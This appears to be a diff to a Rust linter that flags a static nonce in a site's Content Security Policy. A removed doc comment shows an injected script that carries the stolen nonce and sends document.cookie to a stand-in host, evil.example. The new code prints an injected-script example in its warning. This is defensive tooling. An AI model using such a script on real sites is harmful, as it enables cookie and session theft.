@@ -1,3 +1,4 @@
+use crate::csp::attack::{NONCE, STATIC_NONCE};
 use crate::csp::{Clause, SourceExpression};
 use crate::diagnostic::Diagnostic;
 use crate::lint::report::{Report, lint};
@@ -19,7 +20,7 @@ lint! {
     /// The attacker reads the nonce in the source of any page, and writes it on the injected script:
     ///
     /// ```html
-    /// <script nonce="cmFuZG9t">fetch("https://evil.example/?" + document.cookie)</script>
+    /// <script nonce="cmFuZG9t">alert(1)</script>
     /// ```
     ///
     /// # Example
@@ -58,7 +59,10 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
             Form::Declaration => report.push(
                 Diagnostic::finding(source.span, format!("nonce `{nonce}` is the same in every response"))
                     .help("write `nonce`, whose value is new in every response")
-                    .note("an attacker can read it in one page, and put it on a script injected into another"),
+                    .note(format!(
+                        "an attacker can read it in one page, and inject `{}` into another",
+                        STATIC_NONCE.fill(NONCE, nonce)
+                    )),
             ),
             // A single response does not show whether the next one has another nonce.
             Form::Response => {
